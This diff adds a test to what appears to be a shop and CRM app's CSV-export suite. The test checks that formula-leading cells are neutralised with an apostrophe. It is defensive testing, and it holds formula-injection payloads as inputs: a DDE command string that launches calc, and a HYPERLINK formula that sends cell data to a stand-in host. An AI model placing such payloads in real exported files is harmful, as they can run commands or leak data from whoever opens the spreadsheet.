@@ -146,4 +146,43 @@ describe('CSV export', () => {
     expect((await host.call('export', { action: 'csv', kind: 'contacts' }, s.owner)).status).toBe(400);
     expect((await host.call('export', { action: 'csv', kind: 'orders' }, 'crm-f1')).status).toBe(403);
   });
+
+  it('never hands a spreadsheet a live formula: formula-leading cells read back with a leading apostrophe, the text intact', async () => {
+    const s = await shopWithSales();
+    // What a buyer or seller can type (the contract trims, so a leading tab or CR only reaches the database
+    // from elsewhere: written directly below), and the full-width signs Apple Numbers normalizes.
+    const names = ['=1+1', '+1', '-1', '@SUM(A1:A9)', '=HYPERLINK("a.cn",1)', '＝1+1', '－1', '＋1', '＠SUM(A1)'];
+    let i = 0;
+    for (const name of names) await s.buy(`crm-formula-${++i}`, name, s.honey, 1, 'paid');
+    const cmd = await host.ok<Product>('catalog', { action: 'create', title: "=cmd|' /C calc'!A0", priceFen: 100, stock: 9, story: '故事' }, s.owner);
+    await s.buy('crm-formula-cmd', '普通人', cmd, 1, 'paid');
+    const leading = await s.buy('crm-formula-tab', '占位', s.honey, 1, 'paid');
+    await host.db.query(`UPDATE orders SET address = jsonb_set(address, '{name}', to_jsonb($2::text)), note = $3 WHERE id = $1`, [leading.id, '\t=1+1', '\r=1+1']);
+    // A spreadsheet that splits on ';' (Excel in many locales) must still see one cell, not a second one starting with '='.
+    const [anyCustomer] = (await host.ok<CustomerPage>('crm', { action: 'list' }, s.owner)).customers;
+    await host.ok('crm', { action: 'note', customerId: anyCustomer.id, note: '好人;=1+1' }, s.owner);
+    const [, other] = (await host.ok<CustomerPage>('crm', { action: 'list' }, s.owner)).customers;
+    await host.ok('crm', { action: 'note', customerId: other.id, note: '=HYPERLINK("https://x.example/?"&A2,"点我看详情")' }, s.owner);
+    await host.ok('crm', { action: 'tag', customerId: anyCustomer.id, tags: ['-VIP'] }, s.owner);
+
+    const orders = parse((await host.ok<CsvExport>('export', { action: 'csv', kind: 'orders' }, s.owner)).csv!, { bom: true }) as string[][];
+    const nameColumn = orders[0].indexOf('收货人');
+    const exported = orders.slice(1).map((row) => row[nameColumn]);
+    for (const name of names) expect(exported).toContain(`'${name}`);
+    expect(exported).toContain("'\t=1+1");
+    expect(orders.find((row) => row[nameColumn] === "'\t=1+1")).toContain("'\r=1+1"); // the note
+    expect(orders.find((row) => row[nameColumn] === '普通人')).toContain(`'=cmd|' /C calc'!A0 ×1`); // the items
+    // Nothing formula-leading is left anywhere, and plain cells are untouched.
+    for (const row of orders) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
+    expect(orders.find((row) => row[nameColumn] === '普通人')).toEqual(expect.arrayContaining(['待发货', '普通人', '13800138000', '1.00']));
+
+    const file = (await host.ok<CsvExport>('export', { action: 'csv', kind: 'customers' }, s.owner)).csv!;
+    const customers = parse(file, { bom: true }) as string[][];
+    for (const name of names) expect(customers.map((row) => row[0])).toContain(`'${name}`);
+    const noted = customers.find((row) => row[6] === '好人;=1+1');
+    expect(noted?.[5]).toBe("'-VIP");
+    expect(file).toContain('"好人;=1+1"');
+    expect(customers.map((row) => row[6])).toContain(`'=HYPERLINK("https://x.example/?"&A2,"点我看详情")`);
+    for (const row of customers) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
+  });
 });
